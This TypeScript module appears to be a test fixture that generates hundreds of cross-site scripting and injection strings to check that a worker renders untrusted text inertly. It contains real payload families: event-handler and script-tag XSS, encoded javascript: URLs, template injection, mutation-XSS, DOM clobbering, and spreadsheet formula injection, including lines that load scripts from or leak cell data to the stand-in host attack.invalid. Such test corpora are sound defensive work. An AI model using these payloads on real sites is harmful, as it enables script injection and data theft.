/**
 * Texts that would run something if anybody took them for more than text: each
 * calls `pulsoAttack()` or asks for an address at `attack.invalid`. Made from
 * families, so that a family is added in one line. None looks like an e-mail, a
 * phone or a card, which the worker would redact.
 */
export interface XssVector {
  family: string
  text: string
}

const CALL = 'pulsoAttack()'
const AWAY = 'https://attack.invalid'

/** Elements that run a handler by themselves, with what it takes. */
const ELEMENTS = [
  'img src=x onerror',
  'img src=x: onerror',
  'img srcset=x onerror',
  'image src=x onerror',
  'svg onload',
  'svg/onload',
  'svg><animate onbegin',
  'svg><set onbegin',
  'svg><animatetransform onbegin',
  'video src=x onerror',
  'video><source onerror',
  'audio src=x onerror',
  'body onload',
  'body onpageshow',
  'iframe onload',
  'iframe src=x onload',
  'object data=x onerror',
  'embed src=x onload',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'script src=x onerror',
  'track src=x onerror',
  'input type=image src=x onerror',
  'x onanimationstart',
  'x tabindex=1 autofocus onfocus',
  'a href=# onmouseover',
  'div onpointerenter',
  'div popover onbeforetoggle',
]

/** Ways of writing `handler=call`. */
const HANDLERS = [
  (call: string) => `=${call}`,
  (call: string) => `="${call}"`,
  (call: string) => `='${call}'`,
  (call: string) => `\n=\t"${call}"`,
]

/** What a text may have to get out of first. */
const CLOSERS = [
  '',
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '"/>',
  '</blockquote>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '</select>',
  '</iframe>',
  '</xmp>',
  '</svg>',
  '</math>',
  '-->',
  '--!>',
  ']]>',
  '*/',
  '\\"',
  '\\u0022>',
  '</p></li></ol>',
]

const PAYLOADS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
]

const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script >${CALL}</script >`,
  `<script\n>${CALL}</script\t>`,
  `<script/x>${CALL}</script>`,
  `<script x>${CALL}</script y>`,
  `<<script>${CALL}//<</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script>${CALL}`,
  `<script type=module>${CALL}</script>`,
  `<script src=${AWAY}/x.js></script>`,
  `<script src=//attack.invalid/x.js></script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script src="data:,${CALL}"></script>`,
  `<script type=importmap>{"imports":{"x":"${AWAY}/x.js"}}</script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:,${CALL}"/></svg>`,
  `<math><script>${CALL}</script></math>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><script>${CALL}</script></noscript>`,
  `<!--<script>${CALL}</script>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`,
]

/** Schemes that run what follows, in the disguises that browsers see through. */
const SCHEMES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java&#9;script:${CALL}`,
  `java&Tab;script&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;avascript:${CALL}`,
  `javascript&#58;${CALL}`,
  `javascript://%0a${CALL}`,
  `javascript:void(${CALL})`,
  `data:text/html,<script>opener.${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHVsc29BdHRhY2soKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `vbscript:${CALL}`,
  `feed:javascript:${CALL}`,
  `blob:${AWAY}/x`,
]

const PLACES = [
  (url: string) => `<a href="${url}">click</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>go</button></form>`,
  (url: string) => `<button formaction="${url}" form=app>go</button>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}"><text y=20>go</text></a></svg>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `[click](${url})`,
]

const ENCODINGS = [
  (text: string) => text.replace(/[<>"]/g, (character) => `&#${character.charCodeAt(0)};`),
  (text: string) => text.replace(/[<>"]/g, (character) => `&#x${character.charCodeAt(0).toString(16)};`),
  (text: string) => text.replace(/[<>"]/g, (character) => `&#0000${character.charCodeAt(0)}`),
  (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text: string) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text: string) => encodeURIComponent(text),
  (text: string) => encodeURIComponent(encodeURIComponent(text)),
  (text: string) => text.replace(/[<>]/g, (character) => `\\u00${character.charCodeAt(0).toString(16)}`),
  (text: string) => text.replace(/[<>]/g, (character) => `\\x${character.charCodeAt(0).toString(16)}`),
  (text: string) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text: string) => text.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
  (text: string) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text: string) => text.replaceAll('<', '<\u200b'),
  (text: string) => `\u202e${text}`,
  (text: string) => `\ufeff${text}`,
  (text: string) => text.replace('script', 'scr\u0000ipt').replace('img', 'i\u0000mg'),
]

/** Templates of other people, should the text ever meet one. */
const TEMPLATES = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{$on.constructor('${CALL}')()}}`,
  `{{_c.constructor('${CALL}')()}}`,
  `{{#with "s" as |string|}}{{${CALL}}}{{/with}}`,
  `\${${CALL}}`,
  `\`\${${CALL}}\``,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `<%- ${CALL} %>`,
  `[[${CALL}]]`,
  `{%raw%}<script>${CALL}</script>{%endraw%}`,
  `<div v-html="'<img src=x onerror=${CALL}>'"></div>`,
  `<div ng-app ng-csp><input autofocus ng-focus="$event.view.${CALL}"></div>`,
  `<div x-data x-init="${CALL}"></div>`,
  `<div data-bind="html: '<img src=x onerror=${CALL}>'"></div>`,
  `<div hx-on:load="${CALL}" hx-get="${AWAY}" hx-trigger="load"></div>`,
  `{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CALL}>"}}}`,
  `{"__k":null,"type":"script","props":{"children":"${CALL}"},"constructor":null}`,
]

/** Out of a string of a script or of JSON. */
const SCRIPT_STRINGS = [
  `";${CALL};//`,
  `';${CALL};//`,
  `\`;${CALL};//`,
  `'-${CALL}-'`,
  `"-${CALL}-"`,
  `\\";${CALL};//`,
  `\\';${CALL};//`,
  `"}]};${CALL}//`,
  `"},"responses":[{"comment":"${CALL}"}],"x":{"y":"`,
  `\u2028${CALL}//`,
  `\u2029${CALL}//`,
  `</script><script>${CALL}//`,
  `<!--<script>${CALL}//`,
  `);${CALL};(`,
  `*/${CALL}/*`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL}>"}}`,
  `');${CALL};('`,
]

/** What changes when a browser reads it twice. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`,
  `<math></br><style><a title="</style><img src=x onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${CALL}>">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg><desc><noscript></desc><s></noscript></s><a href="</noscript><img src=x onerror=${CALL}>">`,
  `<table><td background="javascript:${CALL}"><img src=x onerror=${CALL}></table>`,
  `<p><svg><style>/*</style></svg></p><img src=x onerror=${CALL}>*/`,
  `<xmp><p title="</xmp><svg/onload=${CALL}>">`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
  `<plaintext><img src=x onerror=${CALL}>`,
  `<template shadowrootmode=open><script>${CALL}</script></template>`,
  `<portal src="javascript:${CALL}" onload=${CALL}>`,
  `<img alt="\`><img src=x onerror=${CALL}>">`,
]

const STYLES = [
  `<style>@import '${AWAY}/x.css';</style>`,
  `<style>*{background:url("${AWAY}/x")}</style>`,
  `<style>*{background:url("javascript:${CALL}")}</style>`,
  `<style>@keyframes x{}</style><x style="animation-name:x" onanimationend="${CALL}">`,
  `<div style="background:url(${AWAY}/x)">x</div>`,
  `<div style="width:expression(${CALL})">x</div>`,
  `<div style="-moz-binding:url(${AWAY}/x#x)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999" onclick="${CALL}">cover</div>`,
  `<link rel=stylesheet href=${AWAY}/x.css>`,
  `<link rel=preload as=script href=${AWAY}/x.js>`,
  `<link rel=prefetch href=${AWAY}/x>`,
  `<base href=${AWAY}/>`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<img src=${AWAY}/pixel>`,
  `<img src="${AWAY}/`,
  `<a href=${AWAY} ping=${AWAY}/ping>x</a>`,
]

/** Elements whose names stand in the way of the page's own. */
const CLOBBERS = [
  'app',
  'body',
  'head',
  'cookie',
  'location',
  'createElement',
  'documentElement',
  'trustedTypes',
  'fetch',
  'WebSocket',
].flatMap((name) => [
  `<a id=${name} href="javascript:${CALL}"></a>`,
  `<form id=${name}><input name=action value="javascript:${CALL}"></form>`,
  `<img name=${name} src=x onerror=${CALL}>`,
])

/** Formulas, for whoever opens the export in a spreadsheet. */
const FORMULAS = [
  `=cmd|'/C calc'!A0`,
  `=HYPERLINK("${AWAY}?leak="&A1,"Prize")`,
  `=IMPORTXML("${AWAY}","//a")`,
  `=WEBSERVICE("${AWAY}")`,
  `=DDE("cmd","/C calc","x")`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  `+cmd|'/C calc'!A0`,
  `-cmd|'/C calc'!A0`,
  `-2+3+cmd|'/C calc'!A0`,
  `＝cmd|'/C calc'!A0`,
]

const FORMULA_DISGUISES = [
  (formula: string) => formula,
  (formula: string) => ` ${formula}`,
  (formula: string) => `"${formula}`,
  (formula: string) => `'"${formula}`,
  (formula: string) => `x;${formula}`,
  (formula: string) => `x\n${formula}`,
  (formula: string) => `x","${formula}`,
]

/** Every one of `texts` written in every one of `ways`. */
function inEveryWay(texts: readonly string[], ways: readonly ((text: string) => string)[]): string[] {
  return texts.flatMap((text) => ways.map((way) => way(text)))
}

const FAMILIES: Record<string, string[]> = {
  handlers: ELEMENTS.flatMap((element) => HANDLERS.map((write) => `<${element}${write(CALL)}>`)),
  closers: CLOSERS.flatMap((closer) => PAYLOADS.map((payload) => closer + payload)),
  scripts: SCRIPTS,
  schemes: inEveryWay(SCHEMES, PLACES),
  encodings: inEveryWay(PAYLOADS, ENCODINGS),
  templates: TEMPLATES,
  'script strings': SCRIPT_STRINGS,
  mutations: MUTATIONS,
  styles: STYLES,
  clobbers: CLOBBERS,
  formulas: inEveryWay(FORMULAS, FORMULA_DISGUISES),
}

/** All of them, each text once. */
export const XSS_VECTORS: readonly XssVector[] = [
  ...new Map(Object.entries(FAMILIES).flatMap(([family, texts]) => texts.map((text) => [text, { family, text }] as const))).values(),
]

/** About `count` of them, as many of each family, spread over it. */
export function toSpread(count: number): XssVector[] {
  const each = Math.ceil(count / Object.keys(FAMILIES).length)
  return Object.keys(FAMILIES).flatMap((family) => {
    const all = XSS_VECTORS.filter((vector) => vector.family === family)
    const step = Math.max(1, all.length / each)
    return Array.from({ length: Math.min(each, all.length) }, (_, index) => all[Math.floor(index * step)]).filter(
      (vector) => vector !== undefined,
    )
  })
}
